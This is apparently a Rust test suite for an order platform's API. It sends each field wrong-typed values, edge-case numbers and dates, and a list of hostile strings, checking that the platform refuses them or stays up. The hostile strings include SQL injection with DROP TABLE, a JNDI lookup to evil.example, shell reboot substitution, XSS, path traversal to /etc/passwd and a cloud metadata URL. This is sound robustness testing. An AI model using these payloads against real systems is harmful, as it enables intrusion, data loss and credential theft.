//! Each field of each operation as each other JSON type, and as values of its own type that nobody expects.

use super::{Callers, places, watch::Watch};
use crate::{
    ask::Ask,
    operations::{ask, example},
    world::on_each,
};
use contract::{
    OPERATIONS,
    operation::{Edition, Method},
};
use serde_json::{Value, json};

/// A value of each JSON type.
fn of_each_type() -> [(&'static str, Value); 5] {
    [
        ("boolean", json!(true)),
        ("number", json!(1.5)),
        ("string", json!("text")),
        ("array", json!([[{"a": []}]])),
        ("object", json!({"a": {"b": []}, "length": 1})),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_field_of_another_type_is_refused_wherever_it_stands() {
    on_each(async |world| {
        let (callers, watch) = (Callers::of(world).await, Watch::over(world));
        for entry in OPERATIONS.iter().filter(|entry| entry.method == Method::Post) {
            let who = callers.of_entry(world, entry).await;
            for place in places::of(entry) {
                for (_, value) in of_each_type().into_iter().filter(|(kind, _)| !place.takes(kind)) {
                    let body = place.with(&example(entry), value);
                    let answer = world.send(&who, ask(entry, &body)).await;
                    watch.judge(entry, &answer);
                    // Where its neighbours are missing, that is said first.
                    let refused = answer.code() == 40003 || (!place.is_top() && answer.code() == 40002);
                    assert!(refused, "{} {place} in {body}: {}", entry.id, answer.text);
                }
            }
        }
    })
    .await;
}

/// Texts that mean something somewhere: to a database, a shell, a template, a log, a file system, a parser.
const TEXTS: [&str; 11] = [
    "",
    " ",
    "\0",
    "a\0b",
    "\r\nX-Injected: 1",
    "\u{feff}\u{202e}txt.exe\u{fffe}\u{ffff}",
    "' OR '1'='1\"; DROP TABLE orders; --%_\\$1",
    "{{7*7}}${jndi:ldap://evil.example/a}$(reboot)`reboot`<script>alert(1)</script>",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
];

/// Times and numbers at the edges of their types, as text.
const EDGES: [&str; 10] = [
    "9999-12-31 23:59:59",
    "0000-01-01 00:00:00",
    "-9999-01-01T00:00:00Z",
    "2026-02-30 25:61:61",
    "9223372036854775807",
    "-9223372036854775809",
    "99999999999999999999999999",
    "1e308",
    "TQ9223372036854775807",
    "PO999999999999999999999999999999",
];

fn numbers() -> [Value; 7] {
    [json!(0), json!(-1), json!(i64::MIN), json!(i64::MAX), json!(u64::MAX), json!(1e308), json!(0.1)]
}

async fn nothing_breaks(editions: &[Edition]) {
    on_each(async |world| {
        let (callers, watch) = (Callers::of(world).await, Watch::over(world));
        let values: Vec<Value> = TEXTS.iter().chain(&EDGES).map(|text| json!(text)).chain(numbers()).collect();
        for entry in OPERATIONS.iter().filter(|entry| editions.contains(&entry.edition)) {
            let mut who = callers.of_entry(world, entry).await;
            for place in places::of(entry) {
                for value in values.iter().filter(|value| match value {
                    Value::String(_) => place.takes("string"),
                    _ => place.takes("integer") || place.takes("number"),
                }) {
                    let body = place.with(&example(entry), value.clone());
                    let answer = world.send(&who, ask(entry, &body)).await;
                    watch.judge(entry, &answer);
                    if entry.id == "developer_secret_reset" && answer.code() == 200 {
                        who = callers.of_entry(world, entry).await;
                    }
                }
            }
        }
        let (status, _) = world.page(http::Request::get("/readyz").body(axum::body::Body::empty()).unwrap()).await;
        assert_eq!(status, 200);
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_value_in_any_field_of_v1_is_a_fault_of_the_platform() {
    nothing_breaks(&[Edition::V1]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_value_in_any_field_of_v2_is_a_fault_of_the_platform() {
    nothing_breaks(&[Edition::V2]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_value_in_any_field_of_ka_or_bigmajor_is_a_fault_of_the_platform() {
    nothing_breaks(&[Edition::Ka, Edition::BigMajor]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_value_in_any_other_field_is_a_fault_of_the_platform() {
    let own = [Edition::V1, Edition::V2, Edition::Ka, Edition::BigMajor];
    let rest: Vec<Edition> = Edition::ALL.into_iter().filter(|edition| !own.contains(edition)).collect();
    nothing_breaks(&rest).await;
}

#[tokio::test]
async fn a_field_that_is_given_twice_is_read_once() {
    on_each(async |world| {
        let me = &world.developer;
        // What is checked is what is used: the schema and the operation see the same of two.
        for (first, second, code) in [("51", "1", 200), ("1", "51", 40003)] {
            let body = format!(r#"{{"pageSize":{first},"pageSize":{second}}}"#);
            assert_eq!(world.send(me, Ask::raw("/alibaba/order/page", body)).await.code(), code);
        }
        let twice = |a: &str, b: &str| Ask::get(&format!("/alibaba/order/pay/url?orderId={a}&orderId={b}"), &[]);
        let bought = world.order(me, crate::purchase::goods::JEANS, &[1]).await;
        assert_eq!(world.send(me, twice(&bought.id(), "5")).await.code(), 40403);
        assert_eq!(world.order_status(me, bought.order).await, "waitbuyerpay");
    })
    .await;
}
